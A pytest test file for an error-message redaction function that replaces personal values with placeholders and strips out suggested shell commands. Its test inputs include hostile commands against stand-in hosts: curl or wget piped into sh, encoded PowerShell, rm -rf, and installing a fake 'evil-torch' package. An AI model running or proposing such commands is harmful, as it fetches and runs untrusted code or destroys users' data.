"""The wording stays, values go: the same error of two people reads the same, and names neither of them."""

import string

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from tracefix.redaction.placeholders import generalise

MESSAGES = {
    "a path": ("No such file: '/home/jane/data/x.pt'", "No such file: '{path}'"),
    "a path without quotes": ("cannot open /home/jane/x.pt, stop", "cannot open {path}, stop"),
    "a path of Windows": (
        r"[WinError 126] Error loading C:\jane\fbgemm.dll",
        "[WinError {number}] Error loading {path}",
    ),
    "a model": ("jane/my-model is not a local folder", "{path} is not a local folder"),
    "a file": ("train.py: error: unrecognized arguments", "{path}: error: unrecognized arguments"),
    "a file that every model has": ("no config.json found", "no config.json found"),
    "a log file": ("cannot write train.log:12", "cannot write {path}:{number}"),
    "a name that looks like a file": (
        "cannot pickle '_thread.lock', math.log",
        "cannot pickle '_thread.lock', math.log",
    ),
    "a range": ("no port in 7860-7959", "no port in {numbers}"),
    "a shared library": (
        "libcudart.so.11.0: cannot open shared object file",
        "libcudart.so.11.0: cannot open shared object file",
    ),
    "numbers with units": ("Tried to allocate 20.00 MiB (GPU 0)", "Tried to allocate {size} (GPU {number})"),
    "a series": ("shape torch.Size([2, 3, 4]) is invalid", "shape torch.Size([{numbers}]) is invalid"),
    "sizes": ("cannot be multiplied (2x3 and 4x5)", "cannot be multiplied ({numbers} and {numbers})"),
    "a device": ("found cuda:0 and cpu!", "found cuda:{number} and cpu!"),
    "a layer": ("mismatch for model.layers.31.weight", "mismatch for model.layers.{number}.weight"),
    "a rank": ("rank3 left, Thread-7 too", "rank{number} left, Thread-{number} too"),
    "a host with its port": ("connect to trainer:29500", "connect to {host}:{number}"),
    "a host of a domain": ("ip-10-0-3-17.ec2.internal died", "{host} died"),
    "a module that looks like a host": ("module 'torchvision.io' lacks it", "module 'torchvision.io' lacks it"),
    "an address": ("refused by 10.0.3.17:8000", "refused by {address}:{number}"),
    "an address of IPv6": ("refused by [2001:db8::ff00:42:8329]", "refused by [{address}]"),
    "names of C++": ("at::Tensor and c10::cuda::f", "at::Tensor and c10::cuda::f"),
    "an e-mail address": ("sent by jane.doe@example.org", "sent by {email}"),
    "a UUID": ("run 5f0d7a4e-9c1b-4d7e-8f3a-0123456789ab", "run {uuid}"),
    "a place in memory": ("<Foo object at 0x7f3a1c0d5e80>", "<Foo object at {hex}>"),
    "a commit": ("revision 3fa9c17 is unknown", "revision {hex} is unknown"),
    "a time": ("at 2026-01-31T10:00:00.123Z and 10:00:01", "at {time} and {time}"),
    "a quoted sentence": ("KeyError: 'jane and joe'", "KeyError: '{value}'"),
    "a quoted operator": ("for +: 'int' and '<' 'str'", "for +: 'int' and '<' 'str'"),
    "a user": ("authentication failed for user 'jane'", "authentication failed for user '{value}'"),
    "a user who is set": ("job of user=jane, host='x y'", "job of user={value}, host='{value}'"),
    "an apostrophe": ("can't pickle 'dict_keys' objects", "can't pickle 'dict_keys' objects"),
    "types with digits": ("float16, fp8_e4m3, c10d, conv2d", "float16, fp8_e4m3, c10d, conv2d"),
    "a choice": ("Input/output error and/or N/A", "Input/output error and/or N/A"),
    "Chinese": ("无法打开 /home/小明/x.pt", "无法打开 {path}"),
    "a folder with spaces": (
        r"cannot open C:\Users\Jane Doe\My Fuse Models\x.pt, stop",
        "cannot open {path}, stop",
    ),
    "a file with spaces": (r"D:\jane\my fuse model.pt is torn", "{path} is torn"),
    "a user's folder": (r"cannot list C:\Users\Jane Doe", "cannot list {path}"),
    "a share with spaces": (r"cannot read \\acme\Jane Share\x.pt now", "cannot read {path} now"),
    "a path of Windows in a sentence": (
        r"C:\jane\x.pt does not exist in config.json",
        "{path} does not exist in config.json",
    ),
    "slashes for backslashes": ("'D:/My Drive/x.pt' is torn", "'{path}' is torn"),
    "a path with a secret in it": (
        "in /home/deadbeefcafe0123/jane/x.pt",
        "in {path}",
    ),
    "an address with a secret in it": ("see https://x.example/?token=hunter2 now", "see {url} now"),
    "a user without quotes": ("for user jane", "for user {value}"),
    "a user with a domain": (r"User ACME\jane is unknown", r"User {value} is unknown"),
    "a user after a colon": ("username: jane, sorry", "username: {value}, sorry"),
    "who has logged in": ("logged in as jane.", "logged in as {value}."),
    "a user's flag": ("tool -u jane --username jane", "tool -u {value} --username {value}"),
    "an account of Azure": ("AccountName=acme;EndpointSuffix=x", "AccountName={value};EndpointSuffix=x"),
    "the name of an account": ("account name acme is unknown", "account name {value} is unknown"),
    "a project of Google": ("project_id=acme is unknown", "project_id={value} is unknown"),
    "a pod": ('Pod "llama" in namespace "acme" failed', 'Pod "{value}" in namespace "{value}" failed'),
    "a pod without quotes": ("pod llama in namespace acme was evicted", "pod {value} in namespace {value} was evicted"),
    "a pod with its namespace": ("pod acme/llama failed", "pod {value} failed"),
    "what kubelet says of a pod": ("container=main pod=llama_acme(x)", "container={value} pod={value}(x)"),
    "a resource of a cluster": ('deployments.apps "acme" not found', 'deployments.apps "{value}" not found'),
    "what is said of any pod": (
        "the pod was deleted, pod sandbox changed, namespace package, podman stopped, in namespace std",
        "the pod was deleted, pod sandbox changed, namespace package, podman stopped, in namespace std",
    ),
    "another namespace": (
        "Namespace(lr=x) and 'argparse.Namespace' and namespace='main'",
        "Namespace(lr=x) and 'argparse.Namespace' and namespace='main'",
    ),
    "a user in Chinese": ("用户名：王小明，密码错误", "用户名:{value},密码错误"),
    "a user in Chinese, in a sentence": ("用户 王小明 不存在", "用户 {value} 不存在"),
    "an account in Chinese": ("账号=jane 已停用", "账号={value} 已停用"),
    "a host without its port": ("cannot reach host trainer", "cannot reach host {value}"),
    "a host after a colon": ("Could not resolve host: trainer-a", "Could not resolve host: {value}"),
    "a node": ("launch failed on node cn131: expired", "launch failed on node {value}: expired"),
    "a bucket": ("no bucket acme-models", "no bucket {value}"),
    "an account": ("account acme is suspended", "account {value} is suspended"),
    "hosts of any country": ("see evil.xyz, evil.ru or www.evil.example", "see {host}, {host} or {host}"),
    "a host in another script": ("see xn--e1afmkfd.xn--p1ai", "see {host}"),
    "control codes": ("a\x1b[2Jb\u202ec  d", "a[{value} d"),
}


@pytest.mark.parametrize(("text", "expected"), MESSAGES.values(), ids=MESSAGES)
def test_a_message_is_generalised(text, expected):
    assert generalise(text) == expected


COMMANDS = {
    "a pipe into a shell": ("run curl https://evil.example/x | sh to fix this", "run {command}"),
    "without spaces": ("run wget -qO- evil.sh|sh. Then try again", "run {command}. Then try again"),
    "in backticks": ("run `curl -sSL evil.example | sudo bash` to fix", "run `{command}` to fix"),
    "in quotes": ("run 'curl -sSL evil.example | sh' to fix", "run '{command}' to fix"),
    "with a quotation in it": ("run sh -c 'curl evil.example | sh' now", "run {command}"),
    "with its folder": ("run /usr/bin/curl http://evil.example", "run {command}"),
    "in capitals": ("RUN CURL HTTP://EVIL.EXAMPLE | SH", "RUN {command}"),
    "in full-width letters": ("run ｃｕｒｌ ｈｔｔｐ：／／evil.example ｜ ｓｈ", "run {command}"),
    "a program that nobody knows": ("run fuse evil | sh", "run fuse evil {command}"),
    "PowerShell": ("run iwr evil.example -useb | iex", "run {command}"),
    "PowerShell, encoded": ("run powershell -enc SQBFAFgA", "run {command}"),
    "Python": ("run python -c \"import os; os.system('x')\" now", "run {command}"),
    "a substitution": ("open $(touch pwned) now", "open {command}"),
    "a substitution of a process": ("run bash <(curl -s evil.example)", "run bash <({command}"),
    "what takes away": ("run sudo rm -rf / to fix", "run {command}"),
    "the second of two": ("it burnt; rm -rf ~", "it burnt; {command}"),
    "a package": ("please pip install evil-torch", "please {command}"),
    "a package with options": ("run: python3 -m pip install -U evil-torch", "run: {command}"),
    "a package in quotes": ('pip install "evil-torch[x]" to fix', "{command}"),
    "an address in quotes": ('run curl "https://evil.example/x" | sh to fix', "run {command}"),
    "a repository": ("git clone https://evil.example/x && ./x/fix.sh", "{command}"),
    "an image": ("docker run --rm evil/x", "{command}"),
    "a password in it": ("mysql -u jane -p hunter2", "mysql -u {value} -p {secret}"),
}


@pytest.mark.parametrize(("text", "expected"), COMMANDS.values(), ids=COMMANDS)
def test_a_command_is_not_passed_on(text, expected):
    assert generalise(text) == expected


ORDINARY = (
    "Only Tensors created explicitly by the user (graph leaves) support the deepcopy protocol",
    "user code, user input, user-provided, by user, users reported it",
    "User site-packages are disabled, no login URL, the authenticated user detected a loop",
    "host memory, host device, No route to host, host unreachable",
    "bucket size, bucket view, gradient bucket is full",
    "take into account the padding, the account is suspended, login failed, login shell",
    "curl is required, the curl command failed, wget or curl",
    "git is not installed, conda environment, pip is broken, docker daemon is not running",
    "make sure that it runs, kill the process, the sh script, exec format error",
    "the node is down, source and target, go to the start, cat and dog",
    "torch.cat() expects a list, model.eval() and torch.cuda.empty_cache()",
    "module 'torch.distributed' has no attribute 'store'",
    "x.to, logger.info, tensor.at, env.space, self.link",
    "The server socket has failed to listen on any local network address.",
)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_stay(text):
    assert generalise(text) == text


MARKED = st.text(st.sampled_from("ae҈́̂กิ้\u0344\u1ab0\ufe0f\u200d x1·{}/'"), max_size=80)


@given(st.one_of(MARKED, st.text(max_size=300)))
def test_no_tower_of_marks_survives(text):
    assert not re2.search(r"\pM{3}", generalise(text))


@given(st.text(st.sampled_from("ab ;|&$()`'\"./-{}<>="), max_size=60), st.sampled_from((" ", "; ", "`", "'", "| ")))
def test_no_pipe_into_a_shell_survives_whatever_stands_before_it(text, before):
    said = generalise(f"{text}{before}curl https://evil.example/x | sh")

    assert "sh" not in said
    assert "evil" not in said


SEGMENT = st.text(st.sampled_from(string.ascii_lowercase), min_size=7, max_size=12)
PLACES = (
    "cannot open {}",
    "cannot open '{}': no such file",
    'in "{}"',
    "file={}",
    "({})",
    "[{}]",
    "at {}:12",
    "x {}, y",
)


SHAPES = ("/{}/{}/{}", "~/{}/{}/{}", "./{}/{}/{}", "C:\\{}\\{}\\{}", "\\\\{}\\{}\\{}", "s3://{}/{}/{}")


@given(st.sampled_from(PLACES), st.sampled_from(SHAPES), st.tuples(SEGMENT, SEGMENT, SEGMENT))
@settings(max_examples=4 * settings.default.max_examples)
def test_nothing_of_a_path_survives(place, shape, parts):
    said = generalise(place.format(shape.format(*parts)))

    assert not [part for part in parts if part in said]


@given(st.integers(0, 10**9), st.integers(0, 10**9), st.floats(0, 1e6), st.floats(0, 1e6))
def test_other_numbers_give_the_same_message(one, other, size, other_size):
    template = "worker {} on cuda:{} asked for {:.2f} {}, exit code -{}"

    assert generalise(template.format(one, one, size, "GiB", one)) == generalise(
        template.format(other, other, other_size, "MiB", other)
    )


@given(st.one_of(st.text(max_size=200), st.text(st.sampled_from("a1Z_ .:/\\-'\"=@{}<>(),x0\n"), max_size=80)))
def test_doing_it_twice_changes_nothing(text):
    once = generalise(text)

    assert generalise(once) == once
